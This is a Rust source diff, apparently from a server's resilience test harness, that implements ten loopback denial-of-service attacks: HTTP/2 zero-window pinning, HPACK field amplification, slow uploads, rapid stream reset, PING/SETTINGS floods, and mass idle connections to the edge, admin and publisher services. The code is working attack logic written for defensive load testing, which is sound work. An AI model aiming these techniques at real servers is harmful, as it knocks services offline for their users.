@@ -1,0 +1,386 @@
+//! The attacks: each keeps connections of its own and does a bounded amount of work in each turn.
+
+use std::io::{self, Read as _, Write as _};
+use std::net::{Ipv4Addr, SocketAddrV4, TcpStream};
+use std::sync::Arc;
+use std::sync::atomic::{AtomicBool, Ordering};
+use std::thread::{self, JoinHandle};
+use std::time::{Duration, Instant};
+
+use anyhow::Context as _;
+use rustix::net::{AddressFamily, SocketType, bind, connect, socket, sockopt};
+use serde_json::{Value, json};
+
+use super::h2::{self, Method};
+use super::stage::{Service, Stage};
+
+/// What is done to the server.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub(super) enum Attack {
+    /// Two HTTP/2 connections with a window of 0, 100 streams each, for objects of 8 MiB that evict each other.
+    PinnedH2,
+    /// 200 HTTP/1.1 connections that ask for such objects and read nothing.
+    PinnedH1,
+    /// 40 HTTP/2 connections whose requests repeat an indexed field of 4 kB: a byte sent is 4 kB decoded.
+    Hpack,
+    /// 1,150 uploads that send a byte every 15 seconds.
+    SlowPosts,
+    /// 12 HTTP/2 connections with a window of 0 that ask for bodies of 400 kB that may not be stored.
+    ClosedWindows,
+    /// Four HTTP/2 connections that reset each request at once.
+    RapidReset,
+    /// Four HTTP/2 connections that send PING and SETTINGS without end.
+    FrameFlood,
+    /// 1,400 connections that say nothing.
+    Idle,
+    /// 32 connections to the admin server that pipeline requests and read nothing.
+    Admin,
+    /// 4,100 connections to the filter's publisher that say nothing.
+    Publisher,
+}
+
+impl Attack {
+    pub(super) const ALL: [Self; 10] = [
+        Self::PinnedH2,
+        Self::PinnedH1,
+        Self::Hpack,
+        Self::SlowPosts,
+        Self::ClosedWindows,
+        Self::RapidReset,
+        Self::FrameFlood,
+        Self::Idle,
+        Self::Admin,
+        Self::Publisher,
+    ];
+
+    pub(super) const fn name(self) -> &'static str {
+        match self {
+            Self::PinnedH2 => "pinned-h2",
+            Self::PinnedH1 => "pinned-h1",
+            Self::Hpack => "hpack",
+            Self::SlowPosts => "slow-posts",
+            Self::ClosedWindows => "closed-windows",
+            Self::RapidReset => "rapid-reset",
+            Self::FrameFlood => "frame-flood",
+            Self::Idle => "idle",
+            Self::Admin => "admin",
+            Self::Publisher => "publisher",
+        }
+    }
+
+    pub(super) const fn service(self) -> Service {
+        match self {
+            Self::Admin => Service::Admin,
+            Self::Publisher => Service::Publisher,
+            _ => Service::Edge,
+        }
+    }
+
+    /// Connections that it keeps open.
+    const fn connections(self) -> usize {
+        match self {
+            Self::PinnedH2 => 2,
+            Self::PinnedH1 => 200,
+            Self::Hpack => 40,
+            Self::SlowPosts => 1150,
+            Self::ClosedWindows => 12,
+            Self::RapidReset | Self::FrameFlood => 4,
+            Self::Idle => 1400,
+            Self::Admin => 32,
+            Self::Publisher => 4100,
+        }
+    }
+}
+
+/// An attack at work in a thread of its own.
+pub(super) struct Running {
+    over: Arc<AtomicBool>,
+    thread: JoinHandle<Value>,
+}
+
+/// No attack lasts longer, whatever else happens.
+const LENGTH_MAX: Duration = Duration::from_secs(15 * 60);
+
+/// Turns a second.
+const TURN: Duration = Duration::from_millis(20);
+
+/// Connections opened in one turn, first and again after the server closed them: 1,000 a second.
+const OPENED_A_TURN: usize = 20;
+
+/// Returns when the attack's first connections are open.
+pub(super) fn start(attack: Attack, stage: &Stage) -> anyhow::Result<Running> {
+    let over = Arc::new(AtomicBool::new(false));
+    let port = stage.port();
+    let thread = thread::Builder::new()
+        .name(attack.name().to_owned())
+        .spawn({
+            let over = Arc::clone(&over);
+            move || Attacker::new(attack, port).run(&over)
+        })
+        .context("the attacker's thread")?;
+    // As long as it takes to open all of them.
+    let turns = attack.connections().div_ceil(OPENED_A_TURN) + 10;
+    thread::sleep(TURN * u32::try_from(turns).expect("some hundred turns"));
+    Ok(Running { over, thread })
+}
+
+impl Running {
+    /// Ends the attack and returns what it sent.
+    pub(super) fn stop(self) -> Value {
+        self.over.store(true, Ordering::Relaxed);
+        self.thread.join().unwrap_or_default()
+    }
+}
+
+struct Attacker {
+    attack: Attack,
+    port: u16,
+    connections: Vec<Open>,
+    opened: u64,
+    refused: u64,
+    closed_by_server: u64,
+    bytes_sent: u64,
+    next_key: u64,
+    next_source: u32,
+}
+
+/// A connection and the next stream on it.
+struct Open {
+    stream: TcpStream,
+    stream_id: u32,
+    turns: u32,
+}
+
+impl Attacker {
+    fn new(attack: Attack, port: u16) -> Self {
+        Self {
+            attack,
+            port,
+            connections: Vec::new(),
+            opened: 0,
+            refused: 0,
+            closed_by_server: 0,
+            bytes_sent: 0,
+            next_key: 1 << 32,
+            next_source: 0,
+        }
+    }
+
+    fn run(mut self, over: &AtomicBool) -> Value {
+        let begun = Instant::now();
+        let mut most = 0;
+        while !over.load(Ordering::Relaxed) && begun.elapsed() < LENGTH_MAX {
+            let turn = Instant::now();
+            self.open_some();
+            self.go_on();
+            most = most.max(self.connections.len());
+            thread::sleep(TURN.saturating_sub(turn.elapsed()));
+        }
+        json!({
+            "connections_opened": self.opened,
+            "connections_open_at_once": most,
+            "connections_refused": self.refused,
+            "connections_closed_by_server": self.closed_by_server,
+            "bytes": self.bytes_sent,
+            "seconds": begun.elapsed().as_secs_f64(),
+        })
+    }
+
+    fn open_some(&mut self) {
+        for _ in 0..OPENED_A_TURN {
+            if self.connections.len() >= self.attack.connections() {
+                return;
+            }
+            // Sixteen addresses of loopback: a share for each address is not yet a defence.
+            self.next_source = (self.next_source + 1) % 16;
+            let source = Ipv4Addr::new(
+                127,
+                0,
+                1,
+                u8::try_from(self.next_source + 1).expect("at most 16"),
+            );
+            let Ok(stream) = connect_from(source, self.port) else {
+                self.refused += 1;
+                return;
+            };
+            self.opened += 1;
+            let first = self.first();
+            let mut open = Open {
+                stream,
+                stream_id: 1,
+                turns: 0,
+            };
+            if self.send(&mut open, &first) {
+                self.connections.push(open);
+            }
+        }
+    }
+
+    /// What a new connection begins with.
+    fn first(&mut self) -> Vec<u8> {
+        match self.attack {
+            Attack::PinnedH2 | Attack::ClosedWindows => h2::preface(0),
+            Attack::Hpack | Attack::RapidReset | Attack::FrameFlood => h2::preface(65_535),
+            Attack::PinnedH1 => {
+                let key = self.key();
+                format!("GET /o/{key}?size=8388608 HTTP/1.1\r\nHost: bench\r\n\r\n").into_bytes()
+            }
+            Attack::SlowPosts => {
+                let key = self.key();
+                format!("POST /o/{key} HTTP/1.1\r\nHost: bench\r\nContent-Length: 10000\r\n\r\n")
+                    .into_bytes()
+            }
+            Attack::Admin => b"GET /metrics HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n".repeat(200),
+            Attack::Idle | Attack::Publisher => Vec::new(),
+        }
+    }
+
+    fn key(&mut self) -> u64 {
+        self.next_key += 1;
+        self.next_key
+    }
+
+    /// Sends what is due on each connection and forgets those that the server closed.
+    fn go_on(&mut self) {
+        let mut kept = Vec::new();
+        for mut open in std::mem::take(&mut self.connections) {
+            let due = self.due(&mut open);
+            let is_alive = self.drain(&mut open) && (due.is_empty() || self.send(&mut open, &due));
+            if is_alive {
+                kept.push(open);
+            } else {
+                self.closed_by_server += 1;
+            }
+        }
+        self.connections = kept;
+    }
+
+    fn due(&mut self, open: &mut Open) -> Vec<u8> {
+        open.turns += 1;
+        let mut bytes = Vec::new();
+        match self.attack {
+            Attack::PinnedH2 if open.turns % 5 == 1 && open.stream_id < 200 => {
+                for _ in 0..4 {
+                    let path = format!("/o/{}?size=8388608", self.key());
+                    request(
+                        &mut bytes,
+                        open,
+                        &h2::head(Method::Get, &path),
+                        h2::END_STREAM,
+                    );
+                }
+            }
+            Attack::ClosedWindows if open.stream_id < 200 => {
+                for _ in 0..10 {
+                    let path = format!("/o/{}?size=400000&cc=no-store", self.key());
+                    request(
+                        &mut bytes,
+                        open,
+                        &h2::head(Method::Get, &path),
+                        h2::END_STREAM,
+                    );
+                }
+            }
+            Attack::Hpack if open.stream_id < 200 => {
+                for n in 0..10 {
+                    let mut block = h2::head(Method::Post, &format!("/o/{}", self.key()));
+                    if open.stream_id == 1 {
+                        h2::indexed_field(&mut block, b"cookie", &[b'x'; 4000]);
+                    }
+                    // 15 x 4 kB stay below the limit of one head.
+                    let repeats = if n == 0 { 14 } else { 15 };
+                    block.extend([h2::NEWEST_FIELD].repeat(repeats));
+                    request(&mut bytes, open, &block, 0);
+                }
+            }
+            // 4 connections x 10 requests x 50 turns: 2,000 a second.
+            Attack::RapidReset => {
+                for _ in 0..10 {
+                    let path = format!("/o/{}?size=1024", self.key());
+                    let stream = open.stream_id;
+                    request(
+                        &mut bytes,
+                        open,
+                        &h2::head(Method::Get, &path),
+                        h2::END_STREAM,
+                    );
+                    h2::frame(&mut bytes, h2::RST_STREAM, 0, stream, &h2::CANCEL);
+                }
+            }
+            // 4 x 100 x 50: 20,000 frames a second.
+            Attack::FrameFlood => {
+                for _ in 0..50 {
+                    h2::frame(&mut bytes, h2::PING, 0, 0, &[0; 8]);
+                    h2::frame(&mut bytes, h2::SETTINGS, 0, 0, &[]);
+                }
+            }
+            Attack::SlowPosts if open.turns.is_multiple_of(750) => bytes.push(b'x'),
+            _ => {}
+        }
+        bytes
+    }
+
+    /// Reads what floods are answered with, so that the server is not stopped by its own socket. Other attacks
+    /// read nothing: that is their point.
+    fn drain(&self, open: &mut Open) -> bool {
+        let reads = matches!(
+            self.attack,
+            Attack::RapidReset | Attack::FrameFlood | Attack::Hpack | Attack::SlowPosts
+        );
+        let mut buffer = [0; 4096];
+        if !reads {
+            return is_open(open.stream.peek(&mut buffer[..1]));
+        }
+        loop {
+            match open.stream.read(&mut buffer) {
+                Ok(0) => return false,
+                Ok(_) => {}
+                error => return is_open(error),
+            }
+        }
+    }
+
+    /// Writes as much as the socket takes at once.
+    fn send(&mut self, open: &mut Open, bytes: &[u8]) -> bool {
+        match open.stream.write(bytes) {
+            // A frame that is cut off would be an error of the attacker's; it gives the connection up.
+            Ok(written) => {
+                self.bytes_sent += written as u64;
+                written == bytes.len()
+            }
+            error => is_open(error),
+        }
+    }
+}
+
+/// HEADERS on the connection's next stream.
+fn request(bytes: &mut Vec<u8>, open: &mut Open, block: &[u8], flags: u8) {
+    h2::frame(
+        bytes,
+        h2::HEADERS,
+        flags | h2::END_HEADERS,
+        open.stream_id,
+        block,
+    );
+    open.stream_id += 2;
+}
+
+/// Whether a call that did not wait says that the connection is still there.
+fn is_open(result: io::Result<usize>) -> bool {
+    match result {
+        Ok(bytes) => bytes > 0,
+        Err(error) => error.kind() == io::ErrorKind::WouldBlock,
+    }
+}
+
+/// A connection to loopback from one of its addresses, with a small receive buffer, that does not block.
+fn connect_from(source: Ipv4Addr, port: u16) -> io::Result<TcpStream> {
+    let socket = socket(AddressFamily::INET, SocketType::STREAM, None)?;
+    sockopt::set_socket_recv_buffer_size(&socket, 4096)?;
+    bind(&socket, &SocketAddrV4::new(source, 0))?;
+    connect(&socket, &SocketAddrV4::new(Ipv4Addr::LOCALHOST, port))?;
+    let stream = TcpStream::from(socket);
+    stream.set_nodelay(true)?;
+    stream.set_nonblocking(true)?;
+    Ok(stream)
+}
